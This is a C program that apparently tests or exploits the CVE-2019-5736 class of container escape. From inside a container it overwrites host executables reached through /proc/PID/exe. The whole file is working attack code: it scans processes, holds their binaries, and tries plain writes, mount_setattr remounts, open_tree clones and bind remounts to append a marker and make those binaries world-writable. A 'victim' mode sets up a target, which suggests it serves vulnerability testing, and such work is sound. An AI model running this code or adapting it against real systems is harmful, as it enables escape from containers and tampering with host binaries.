/* Attacks files through /proc/PID/exe of the processes that it sees, as root with the default
 * capabilities of a container does (class of CVE-2019-5736).
 *
 *   overwrite DEVICE:INODE...      attacks these files alone, until it is killed. Says
 *                                  `has PID NAME` once it has got hold of the file of a process,
 *                                  `WROTE PID WAY` or `CHANGED PID WAY` when it has overwritten it,
 *                                  and `round` after each time that it has tried everything.
 *   overwrite victim file|plain PID-NAMESPACE FILE ARGUMENT...
 *                                  executes FILE as somebody to attack, without capabilities and in
 *                                  this namespace: as it is, or through a read-only clone of the file.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

/* Of <sys/mount.h>, which does not go with <linux/mount.h>. */
extern int mount(const char *, const char *, const char *, unsigned long, const void *);
#define REMOUNT 32
#define BIND 4096
#define RECURSIVE 16384
#define PRIVATE (1 << 18)

static const char marker[] = "overwritten by a container\n";
static const char point[] = "/tmp/mount-point";

static struct {
    int pid, fd;
} victims[512];
static int count;

static int make_writable(int fd) {
    struct mount_attr attributes = {.attr_clr = MOUNT_ATTR_RDONLY};
    return syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &attributes, sizeof attributes);
}

static void try_write(int pid, const char *path, const char *way) {
    int file = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (file >= 0) {
        if (write(file, marker, sizeof marker - 1) > 0)
            printf("WROTE %d %s\n", pid, way);
        close(file);
    }
    struct stat found;
    if (!stat(path, &found) && !chmod(path, found.st_mode | 02))
        printf("CHANGED %d %s\n", pid, way);
}

static void path_of(char *path, int fd) { sprintf(path, "/proc/self/fd/%d", fd); }

/* What takes a user and mount namespace of one's own. */
static void attack_in_namespaces(void) {
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS)) {
        perror("unshare");
        return;
    }
    mount(NULL, "/", NULL, RECURSIVE | PRIVATE, NULL);
    for (int i = 0; i < count; i++) {
        char path[64];
        path_of(path, victims[i].fd);
        make_writable(victims[i].fd);
        try_write(victims[i].pid, path, "setattr");
        int clone = syscall(SYS_open_tree, victims[i].fd, "",
                            AT_EMPTY_PATH | OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
        if (clone >= 0) {
            make_writable(clone);
            path_of(path, clone);
            try_write(victims[i].pid, path, "clone");
            close(clone);
        }
        path_of(path, victims[i].fd);
        if (!mount(path, point, NULL, BIND, NULL)) {
            mount(NULL, point, NULL, BIND | REMOUNT, NULL);
            try_write(victims[i].pid, point, "bind");
        }
    }
}

static void look(int targets, char **target) {
    DIR *proc = opendir("/proc");
    if (!proc) {
        perror("/proc");
        exit(1);
    }
    for (struct dirent *entry; (entry = readdir(proc));) {
        int pid = atoi(entry->d_name), known = 0;
        for (int i = 0; i < count; i++)
            known |= victims[i].pid == pid;
        if (pid <= 0 || known || count == (int)(sizeof victims / sizeof *victims))
            continue;
        char path[64], name[256], number[64];
        snprintf(path, sizeof path, "/proc/%d/exe", pid);
        int fd = open(path, O_PATH | O_CLOEXEC);
        struct stat found;
        if (fd < 0 || fstat(fd, &found)) {
            if (errno == EACCES)
                printf("denied %d\n", pid);
            continue;
        }
        sprintf(number, "%ju:%ju", (uintmax_t)found.st_dev, (uintmax_t)found.st_ino);
        int wanted = 0;
        for (int i = 0; i < targets; i++)
            wanted |= !strcmp(number, target[i]);
        if (!wanted) {
            close(fd);
            continue;
        }
        ssize_t length = readlink(path, name, sizeof name - 1);
        name[length < 0 ? 0 : length] = '\0';
        victims[count].pid = pid;
        victims[count++].fd = fd;
        printf("has %d %s\n", pid, name);
    }
    closedir(proc);
}

static int attack(int targets, char **target) {
    setvbuf(stdout, NULL, _IOLBF, 0);
    close(open(point, O_WRONLY | O_CREAT | O_CLOEXEC, 0600));
    for (;;) {
        look(targets, target);
        fflush(stdout);
        pid_t child = fork();
        if (child == 0) {
            attack_in_namespaces();
            fflush(stdout);
            _exit(0);
        }
        waitpid(child, NULL, 0);
        for (int i = 0; i < count; i++) {
            char path[64];
            path_of(path, victims[i].fd);
            try_write(victims[i].pid, path, "plain");
        }
        puts("round");
        usleep(50000);
    }
}

static int victim(int clones, const char *namespace, char **argv) {
    int file = open(argv[0], O_RDONLY | O_CLOEXEC);
    if (clones) {
        file = syscall(SYS_open_tree, AT_FDCWD, argv[0], OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
        struct mount_attr attributes = {.attr_set = MOUNT_ATTR_RDONLY};
        if (syscall(SYS_mount_setattr, file, "", AT_EMPTY_PATH, &attributes, sizeof attributes))
            return perror("mount_setattr"), 1;
    }
    int space = open(namespace, O_RDONLY | O_CLOEXEC);
    if (file < 0 || space < 0 || setns(space, CLONE_NEWPID))
        return perror("setns"), 1;
    pid_t child = fork();
    if (child == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        for (int capability = 0; capability < 64; capability++)
            prctl(PR_CAPBSET_DROP, capability);
        syscall(SYS_execveat, file, "", argv + 1, (char *[]){NULL}, AT_EMPTY_PATH);
        perror("execveat");
        _exit(1);
    }
    waitpid(child, NULL, 0);
    return 0;
}

int main(int argc, char **argv) {
    if (argc > 5 && !strcmp(argv[1], "victim"))
        return victim(!strcmp(argv[2], "file"), argv[3], argv + 4);
    return attack(argc - 1, argv + 1);
}
